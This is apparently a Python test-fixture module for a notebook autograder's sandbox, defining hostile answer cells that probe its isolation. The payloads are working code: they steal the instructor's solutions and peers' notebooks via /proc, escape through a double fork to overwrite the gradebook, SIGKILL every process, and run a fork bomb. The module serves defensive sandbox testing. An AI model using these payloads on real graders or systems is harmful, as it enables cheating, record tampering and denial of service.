"""Hostile learners: answers that attack the grader instead of (or as well as) solving the exercise.

Each builds on the exercise notebook of ``STEM``; the attack is the answer cell, so the
grade (and the host's state after the run) is the witness of whether it worked. Without a
sandbox, the thieves earn the point and the escaper rewrites the gradebook (a test shows it,
so that the sandbox's tests are known to have teeth).
"""

from __future__ import annotations

from grader_cases import STEM, with_answer

# A token in every process a hostile answer starts, so the test can look for survivors.
TOKEN = "asynclab-hostile-token"

_FIND_ARG = '''
import glob, json, os, pathlib, signal, socket, subprocess, sys, time

def _ancestors():
    """(pid, argv) of this process's parents, nearest first."""
    pid = os.getpid()
    while pid > 1:
        try:
            stat = open(f"/proc/{pid}/stat").read()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
        except (OSError, ValueError, IndexError):
            return
        yield pid, args


def _grader():
    """The grader's pid and command line, found among this process's parents."""
    for pid, args in _ancestors():
        if "grade" in args:
            return pid, args
    return 0, []


def _grader_arg(flag):
    """The argument after ``flag`` on the grader's command line."""
    args = _grader()[1]
    return args[args.index(flag) + 1] if flag in args[:-1] else None


def _answer_from(path):
    """Run the first answer cell of someone else's notebook here; True if it defined the function."""
    try:
        cells = json.load(open(path, encoding="utf-8"))["cells"]
    except (OSError, ValueError, KeyError):
        return False
    for cell in cells:
        source = "".join(cell.get("source", ""))
        if "answer" in cell.get("metadata", {}).get("tags", []) and "_answer_from" not in source:
            try:
                exec(source, globals())
            except Exception:
                return False
            return "fetch_all_urls" in globals()
    return False
'''

STEAL_SOLUTIONS = _FIND_ARG + f'''
import asynclab
_course = pathlib.Path(asynclab.__file__).resolve().parent.parent
_answer_from(_course / "solutions" / "{STEM}.ipynb")
'''

STEAL_PEER = _FIND_ARG + f'''
_class = _grader_arg("grade")
for _path in sorted(glob.glob(os.path.join(_class or "/nonexistent", "*", "{STEM}.ipynb"))):
    if _answer_from(_path):
        break
'''

# Starts two processes meant to outlive the kernel (a new session, and a double fork); once the
# grader has exited (or after a few seconds, when they cannot see it) they rewrite the
# gradebook wherever they can find it.
LATER = """
import os, sys, time
grader, out = int(sys.argv[2]), sys.argv[3]
deadline = time.monotonic() + 60
while grader and os.path.exists(f"/proc/{grader}") and time.monotonic() < deadline:
    time.sleep(0.05)
time.sleep(2 if grader else 4)  # seen alive after the grader's exit, then strikes
with open(os.path.join(out, "gradebook.csv"), "w") as book:
    book.write("student,total\\nmallory,999\\n")
"""

ESCAPE = _FIND_ARG + f'''
_out = _grader_arg("--out") or "/tmp/no-out-visible"
_grader = _grader()[0]
_later = [sys.executable, "-c", {LATER!r}, "{TOKEN}", str(_grader), _out]
subprocess.Popen(_later, start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, _later)
    os._exit(0)
os.wait()
'''

# Sends SIGKILL to every process id it can name: the grader, other kernels, anything.
KILL_EVERYTHING = '''
import os, signal
_me = {int(t) for t in os.listdir("/proc/self/task")}  # its own threads: killing one kills it
for _pid in range(1, 1 << 16):
    if _pid not in _me:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
'''

# Forks until the system says no; the children wait (a bounded bomb: it does not spin).
FORK_BOMB = f'''
import os, sys, time
for _ in range(20_000):
    try:
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                      "{TOKEN}-bomb"])
    except OSError:
        break
'''


def connect_to(port: int) -> str:
    """Tries the host's loopback on ``port``, by address and by name."""
    return f'''
import socket
for _host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((_host, {port}), timeout=1) as _s:
            _s.sendall(b"hello from a learner")
    except OSError:
        pass
'''


def stub_plus(attack: str):
    """The exercise as shipped (not solved) with ``attack`` as its answer: it can only pass by
    taking someone else's work."""
    return with_answer(replace=attack)


def solved_plus(attack: str):
    """The correct answer with ``attack`` after it."""
    return with_answer(attack)
